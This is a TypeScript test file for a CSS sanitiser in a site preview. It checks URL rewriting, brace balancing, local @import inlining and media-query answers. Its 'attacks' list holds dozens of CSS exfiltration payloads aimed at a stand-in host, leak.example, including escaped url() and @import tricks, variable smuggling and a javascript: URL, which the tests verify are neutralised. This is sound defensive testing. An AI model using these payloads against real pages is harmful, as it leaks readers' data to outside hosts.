import assert from 'node:assert/strict';
import { tokenize, TokenType } from '@csstools/css-tokenizer';
import fc from 'fast-check';
import { importsOf, toSafeCss } from '../../../src/core/styles/safeCss';
import type { Reader } from '../../../src/core/styles/mediaQueries';

const rewritten = (css: string, reader: Reader = { scheme: 'light' }): string =>
  toSafeCss(css, {
    ...reader,
    toAddress: (url) => (/^(?!\/\/)[\w./ -]+$/.test(url) ? `local:/${url}` : undefined),
    imported: (url) => (url === './reset.css' ? '*{margin:0}' : undefined),
  });
const safe = (css: string, reader?: Reader): string => rewritten(css, reader).replace(/\s+/g, ' ').trim();

describe('a sheet of the site in the preview', () => {
  const kept: readonly [css: string, result: string][] = [
    ['a { color: red }', 'a { color: red }'],
    ['a { background: url(img/a.png) }', 'a { background: url("local:/img/a.png") }'],
    ['a { background: url( "img/a b.png" ) no-repeat }', 'a { background: url("local:/img/a b.png") no-repeat }'],
    ['a { filter: url(#soft) }', 'a { filter: url("#soft") }'],
    ['a { background: image-set("a.png" 1x, url(b.png) 2x type("image/png")) }', 'a { background: image-set(url("local:/a.png") 1x, url("local:/b.png") 2x type("image/png")) }'],
    ['@font-face { font-family: "X"; src: local("X"), url("x.woff2") format("woff2") }', '@font-face { font-family: "X"; src: local("X"), url("local:/x.woff2") format("woff2") }'],
    ['@charset "utf-8"; a { color: red }', 'a { color: red }'],
    ['a/* b */.c { content: "/* no comment */" }', 'a/**/.c { content: "/* no comment */" }'],
    ['@layer base, site; @layer site { a { color: red } }', '@layer base, site; @layer site { a { color: red } }'],
  ];
  for (const [css, result] of kept) it(`keeps ${css}`, () => assert.equal(safe(css), result));

  const attacks: readonly string[] = [
    'a { background: url(https://leak.example/x) }',
    'a { background: url("//leak.example/x") }',
    "a { background: url('https://leak.example/x' ) }",
    'a { background: UR\\4c(https://leak.example/x) }',
    'a { background: u\\72l("https://leak.example/x") }',
    'a { background: url(https\\3a //leak.example/x) }',
    'a { background: url(/**/"https://leak.example/x") }',
    'a { background: src("https://leak.example/x") }',
    'a { background: image-set("https://leak.example/x" 1x) }',
    'a { background: -webkit-image-set(url(https://leak.example/x) 1x) }',
    'a { background: IMAGE-SET(url("https://leak.example/x") 1x, "https://leak.example/y" 2x) }',
    ':root { --a: "https://leak.example/x" } a { background: image-set(var(--a) 1x) }',
    ':root { --a: url(https://leak.example/x) } a { background: var(--a) }',
    ':root { --a: u\\72l(https://leak.example/x) } a { background: var(--a) }',
    'a { background: cross-fade(url(https://leak.example/x), url(https://leak.example/y), 50%) }',
    'a { background: image("https://leak.example/x") }',
    '@import "https://leak.example/x";',
    '@import url(https://leak.example/x) screen;',
    '@IMPORT "//leak.example/x" layer(a);',
    '@\\69mport "https://leak.example/x";',
    '@import "https://leak.example/x" { a { color: red } }',
    '@import "https://leak.example/x"',
    '@namespace url(https://leak.example/x);',
    '@font-face { font-family: x; src: url(https://leak.example/x) }',
    '@property --a { syntax: "<url>"; inherits: true; initial-value: url(https://leak.example/x) }',
    'a { cursor: url(https://leak.example/x), auto }',
    'a { list-style-image: url(https://leak.example/x) }',
    'a::before { content: url(https://leak.example/x) }',
    'a[href^="x"] { background: url("https://leak.example/?x") }',
    'a { filter: url("https://leak.example/x#y") }',
    'a { background: url(javascript:alert(1)) }',
    'a { background: url("https://leak.example/x\n") }',
    'a { background: url(https://leak.example/"x) }',
    '@media screen { a { background: url(https://leak.example/x) } }',
    'a { background: ur)l(https://leak.example/x) }',
    'a { background: ur@import "y";l(https://leak.example/x) }',
    'a { background: ur<!--l(https://leak.example/x) }',
  ];
  for (const css of attacks) {
    it(`loads nothing by ${JSON.stringify(css)}`, () => {
      const result = safe(css);
      // A string that no function takes for an address is but a text.
      assert.doesNotMatch(result.replace(/--a: "[^"]*"| l\([^)]*\)/, ''), /leak\.example|javascript/);
      assert.doesNotMatch(result, /image-set\(var/i);
    });
  }

  const unbalanced: readonly [css: string, result: string][] = [
    ['} .galley-bar { display: none }', '.galley-bar { display: none }'],
    ['a { color: red', 'a { color: red}'],
    ['a { width: calc(1px + (2px', 'a { width: calc(1px + (2px))}'],
    ['a { color: red ) } b { color: blue }', 'a { color: red } b { color: blue }'],
    ['a::after { content: "x', 'a::after { content: "x"}'],
  ];
  for (const [css, result] of unbalanced) it(`balances ${css}`, () => assert.equal(safe(css), result));

  it('loads nothing and is balanced, whatever is put together', () => {
    const parts = ['url(', 'ur', 'l(', 'u\\72l(', 'image-set(', 'var(--a)', '"https://leak.example/x"', "'", '"', '\\', '\n', 'https://leak.example/x', ')', '(', '{', '}', '[', ']', ';', ':', '@import ', '@media ', '@\\69mport ', '/*', '*/', '<!--', '-->', ' ', 'a', 'color-scheme', 'src(', '1x', ','];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...parts), { maxLength: 25 }), (chosen) => {
        const result = rewritten(chosen.join(''));
        const tokens = tokenize({ css: `@layer x{${result}}b` });
        let depth = 0;
        const depths = tokens.map(([type]) => {
          if (type === TokenType.Function || type === TokenType.OpenParen || type === TokenType.OpenCurly || type === TokenType.OpenSquare) depth++;
          if (type === TokenType.CloseParen || type === TokenType.CloseCurly || type === TokenType.CloseSquare) depth--;
          return depth;
        });
        assert.deepEqual(depths.map((at, index) => (at === 0 ? tokens[index]?.[1] : undefined)).filter((raw) => raw !== undefined), ['@layer', ' ', 'x', '}', 'b', '']);
        for (const [index, token] of tokens.entries()) {
          if (token[0] === TokenType.URL) assert.doesNotMatch(token[4].value, /leak/);
          if (token[0] === TokenType.AtKeyword) assert.notEqual(token[4].value.toLowerCase(), 'import');
          if (token[0] === TokenType.Function && /^(?:url|src|image-set)$/i.test(token[4].value)) assert.doesNotMatch(tokens[index + 1]?.[1] ?? '', /leak|var/);
        }
      }),
      { numRuns: 2000 },
    );
  });

  const imports: readonly [css: string, result: string][] = [
    ['@import "./reset.css"; a { color: red }', '*{margin:0} a { color: red }'],
    ['@import url(./reset.css) print;', '@media print{*{margin:0}}'],
    ['@import url("./reset.css") layer(base) supports(display: grid) (prefers-color-scheme: dark);', '@layer base{@supports (display: grid){@media (max-width: 0px){*{margin:0}}}}'],
    ['@import "./reset.css" layer;', '@layer {*{margin:0}}'],
    ['@import "./other.css";', ''],
  ];
  for (const [css, result] of imports) it(`puts the imported in its place: ${css}`, () => assert.equal(safe(css), result));

  it('tells what a sheet imports', () => {
    assert.deepEqual(importsOf('@import "a.css"; @import url(b.css) print; @import url("c.css"); a { color: red }'), ['a.css', 'b.css', 'c.css']);
  });

  const answers: readonly [reader: Reader, css: string, result: string][] = [
    [{ scheme: 'dark' }, '@media (prefers-color-scheme: dark) { a { color: red } }', '@media (min-width: 0px) { a { color: red } }'],
    [{ scheme: 'light' }, '@media (prefers-color-scheme:/* */dark) and (min-width: 40em) {}', '@media (max-width: 0px) and (min-width: 40em) {}'],
    [{ scheme: 'dark' }, ':root { color-scheme: light dark; color: light-dark(red, blue) }', ':root { color-scheme:dark; color: light-dark(red, blue) }'],
    [{ scheme: 'light', width: 390 }, '@media (max-width: 40em) {}', '@media (min-width: 0px) {}'],
    [{ scheme: 'light', width: 820 }, '@media (max-width: 40em) {}', '@media (max-width: 0px) {}'],
    [{ scheme: 'light', width: 390 }, '@media (width >= 600px) {}', '@media (max-width: 0px) {}'],
    [{ scheme: 'light', width: 820 }, '@media (600px <= width < 900px) {}', '@media (min-width: 0px) {}'],
    [{ scheme: 'light', width: 390 }, '@media (600px <= width < 900px) {}', '@media (max-width: 0px) {}'],
    [{ scheme: 'light', width: 390 }, 'a { width: 10vw; height: 10vh }', 'a { width: 39px; height: 10vh }'],
  ];
  for (const [reader, css, result] of answers) it(`answers ${css} for ${JSON.stringify(reader)}`, () => assert.equal(safe(css, reader), result));
});
